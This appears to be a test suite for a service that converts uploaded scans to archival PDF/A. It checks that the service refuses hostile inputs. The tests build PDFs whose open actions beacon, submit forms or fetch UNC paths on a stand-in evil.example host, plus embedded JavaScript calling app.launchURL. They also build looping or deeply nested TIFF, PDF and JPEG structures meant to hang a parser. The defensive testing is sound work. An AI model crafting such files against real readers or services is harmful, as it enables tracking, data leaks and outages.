/**
 * Scans attacked from a valid uploader account: what the bytes may get into the rendition an accountant
 * opens later, and hostile structure that must be refused from headers. Other cases live in pdf.test.ts,
 * escaped-names.test.ts, pdf-parse-hostile.test.ts, polyglots.test.ts and refusals.test.ts.
 */
import { PDFArray, PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { normalise } from '../../../shared/normalise';
import { CATALOG, classicPdf, PAGE, PAGES } from '../../support/hostile-pdf';
import { input } from './helpers';

const N = (s: string) => PDFName.of(s);
async function pdfWith(build: (pdf: PDFDocument) => void): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  pdf.addPage([100, 100]);
  build(pdf);
  return Buffer.from(await pdf.save());
}
const outcome = (bytes: Buffer) => normalise(input([bytes])).then(
  (r) => ({ conformance: r.conversion.conformance }),
  (e: { code?: string; detail?: string; extensions?: Record<string, unknown> }) => ({ code: e.code, reason: e.extensions?.reason, detail: e.detail }));
/** A printable annotation with an appearance stream on page 1. */
function annot(pdf: PDFDocument, d: Record<string, unknown>): void {
  const ap = pdf.context.register(pdf.context.stream('', { Type: 'XObject', Subtype: 'Form', BBox: [0, 0, 10, 10] }));
  const a = pdf.context.obj({ Type: 'Annot', Rect: [0, 0, 10, 10], F: 4, AP: pdf.context.obj({ N: ap }), ...d } as never);
  pdf.getPage(0).node.set(N('Annots'), pdf.context.obj([pdf.context.register(a)]));
}
const submit = (pdf: PDFDocument) => pdf.context.obj({ S: 'SubmitForm', F: pdf.context.obj({ FS: 'URL', F: PDFString.of('https://evil.example/s') }) });
const uri = (pdf: PDFDocument) => pdf.context.obj({ S: 'URI', URI: PDFString.of('https://evil.example/beacon') });

describe('actions that run by themselves may only move within the file', () => {
  // Each of these was claimed PDF/A-2b (PDF/A-2 allows URI, SubmitForm, GoToR, Thread) or kept as uploaded
  // as the rendition, while a catalog /AA running NextPage was refused: the file reached out when opened.
  const cases: [string, (pdf: PDFDocument) => void, RegExp][] = [
    ['/OpenAction /URI (a beacon on open)', (pdf) => pdf.catalog.set(N('OpenAction'), uri(pdf)), /URI action run by \/OpenAction/],
    ['/OpenAction /SubmitForm to a URL', (pdf) => pdf.catalog.set(N('OpenAction'), submit(pdf)), /SubmitForm/],
    ['/OpenAction /GoToR to a UNC path', (pdf) => pdf.catalog.set(N('OpenAction'), pdf.context.obj({ S: 'GoToR', F: PDFString.of('\\\\evil.example\\s\\x.pdf'), D: [0, N('Fit')] })), /GoToR/],
    ['/OpenAction /Thread in another file', (pdf) => pdf.catalog.set(N('OpenAction'), pdf.context.obj({ S: 'Thread', F: PDFString.of('\\\\evil.example\\x.pdf'), D: 0 })), /Thread/],
    ['/OpenAction /GoTo whose /Next is a /URI', (pdf) => pdf.catalog.set(N('OpenAction'), pdf.context.obj({ S: 'GoTo', D: [pdf.getPage(0).ref, N('Fit')], Next: [uri(pdf)] })), /URI/],
    ['/OpenAction named /Print', (pdf) => pdf.catalog.set(N('OpenAction'), pdf.context.obj({ S: 'Named', N: 'Print' })), /Named/],
    ['a link\'s /AA /PO (page open) submitting a form', (pdf) => annot(pdf, { Subtype: 'Link', AA: pdf.context.obj({ PO: submit(pdf) }) }), /SubmitForm action run by \/AA \/PO/],
    ['a widget\'s /AA /PV (page visible) opening a URI', (pdf) => annot(pdf, { Subtype: 'Widget', FT: 'Btn', T: PDFString.of('b'), AA: pdf.context.obj({ PV: uri(pdf) }) }), /URI action run by \/AA \/PV/],
  ];
  test.each(cases)('%s → 422 active_content', async (_name, build, detail) => {
    expect(await outcome(await pdfWith(build))).toMatchObject({ code: 'active_content', reason: 'automatic_action', detail: expect.stringMatching(detail) });
  });

  test('an /OpenAction going to a page, and a link the reader clicks, are still archived as PDF/A-2b', async () => {
    expect(await outcome(await pdfWith((pdf) => pdf.catalog.set(N('OpenAction'), pdf.context.obj([pdf.getPage(0).ref, N('Fit')]))))).toEqual({ conformance: 'PDF/A-2b' });
    expect(await outcome(await pdfWith((pdf) => pdf.catalog.set(N('OpenAction'), pdf.context.obj({ S: 'GoTo', D: [pdf.getPage(0).ref, N('Fit')], Next: pdf.context.obj({ S: 'Named', N: 'LastPage' }) }))))).toEqual({ conformance: 'PDF/A-2b' });
    expect(await outcome(await pdfWith((pdf) => annot(pdf, { Subtype: 'Link', A: pdf.context.obj({ S: 'URI', URI: PDFString.of('https://example.com/invoice') }) })))).toEqual({ conformance: 'PDF/A-2b' });
  });
});

describe('script and outside data that were kept as uploaded', () => {
  test('a 3D artwork whose /OnInstantiate stream is JavaScript → 422 active_content (was kept, "a 3D annotation")', async () => {
    const bytes = await pdfWith((pdf) => {
      const js = pdf.context.register(pdf.context.stream('app.launchURL("https://evil.example/")'));
      const dd = pdf.context.register(pdf.context.stream('U3D', { Type: '3D', Subtype: 'U3D', OnInstantiate: js }));
      annot(pdf, { Subtype: '3D', '3DD': dd });
    });
    expect(await outcome(bytes)).toMatchObject({ code: 'active_content', reason: 'javascript', detail: expect.stringMatching(/OnInstantiate/) });
  });
  test('page content whose data is a URL (/F on a stream) → 422 active_content (was kept as uploaded)', async () => {
    const bytes = await pdfWith((pdf) => {
      const s = pdf.context.register(pdf.context.stream('', { F: pdf.context.obj({ FS: 'URL', F: PDFString.of('https://evil.example/c') }) }));
      pdf.getPage(0).node.set(N('Contents'), s);
    });
    expect(await outcome(bytes)).toMatchObject({ code: 'active_content', reason: 'external_stream' });
  });
});

/** Little-endian TIFF: `n` pages of 8×8 uncompressed gray sharing one strip; the last IFD points at `loopTo`'s. */
function tiff(n: number, loopTo?: number): Buffer {
  const ifdSize = 2 + 9 * 12 + 4;
  const buf = Buffer.alloc(8 + 64 + n * ifdSize, 0x80);
  buf.write('II', 0, 'latin1'); buf.writeUInt16LE(42, 2); buf.writeUInt32LE(8 + 64, 4);
  const entries = [[256, 3, 8], [257, 3, 8], [258, 3, 8], [259, 3, 1], [262, 3, 1], [273, 4, 8], [277, 3, 1], [278, 3, 8], [279, 4, 64]];
  for (let i = 0; i < n; i++) {
    let o = 8 + 64 + i * ifdSize;
    buf.writeUInt16LE(entries.length, o); o += 2;
    for (const [tag, type, value] of entries) {
      buf.fill(0, o, o + 12);
      buf.writeUInt16LE(tag!, o); buf.writeUInt16LE(type!, o + 2); buf.writeUInt32LE(1, o + 4);
      if (type === 3) buf.writeUInt16LE(value!, o + 8); else buf.writeUInt32LE(value!, o + 8);
      o += 12;
    }
    buf.writeUInt32LE(i + 1 < n ? 8 + 64 + (i + 1) * ifdSize : loopTo !== undefined ? 8 + 64 + loopTo * ifdSize : 0, o);
  }
  return buf;
}

describe('structure that would hold the service: refused from headers, fast', () => {
  test('a TIFF whose IFD chain loops (to itself, or back to the first) → 422 corrupt_file', async () => {
    expect(await outcome(tiff(1, 0))).toMatchObject({ code: 'corrupt_file', detail: expect.stringMatching(/loops/) });
    expect(await outcome(tiff(3, 0))).toMatchObject({ code: 'corrupt_file', detail: expect.stringMatching(/loops/) });
    expect(await outcome(tiff(3))).toMatchObject({ conformance: 'PDF/A-2b' });
  });
  test('a TIFF of 10,000 pages (1.1 MB) → 422 too_many_pages before any page is read', async () => {
    const t = Date.now();
    expect(await outcome(tiff(10_000))).toMatchObject({ code: 'too_many_pages' });
    expect(Date.now() - t).toBeLessThan(2_000);
  });
  test('a PDF page tree whose /Kids holds its own /Pages → 422 corrupt_file', async () => {
    const pdf = await PDFDocument.create();
    pdf.addPage([100, 100]);
    (pdf.context.lookup(pdf.catalog.get(N('Pages'))) as unknown as { get(n: PDFName): PDFArray }).get(N('Kids')).push(pdf.catalog.get(N('Pages'))!);
    expect(await outcome(Buffer.from(await pdf.save()))).toMatchObject({ code: 'corrupt_file' });
  });
  test('a PDF nesting 100,000 arrays or 50,000 dictionaries → 422 corrupt_file, no stack overflow', async () => {
    for (const deep of ['['.repeat(100_000) + ']'.repeat(100_000), '<</A '.repeat(50_000) + '1' + '>>'.repeat(50_000)]) {
      expect(await outcome(classicPdf([CATALOG(`/X ${deep}`), PAGES, PAGE]))).toMatchObject({ code: 'corrupt_file' });
    }
  });
  test('a PDF whose objects refer to each other in a cycle is archived (the walk does not follow references)', async () => {
    expect(await outcome(classicPdf([CATALOG('/X 4 0 R'), PAGES, PAGE, { num: 4, body: '<< /N 5 0 R >>' }, { num: 5, body: '<< /N 4 0 R >>' }]))).toEqual({ conformance: 'PDF/A-2b' });
  });
  test('a JPEG of 30,000 empty APP1 segments and no frame → 422 corrupt_file', async () => {
    const parts = [Buffer.from([0xff, 0xd8])];
    for (let i = 0; i < 30_000; i++) parts.push(Buffer.from([0xff, 0xe1, 0x00, 0x02]));
    parts.push(Buffer.from([0xff, 0xd9]));
    expect(await outcome(Buffer.concat(parts))).toMatchObject({ code: 'corrupt_file' });
  });
});
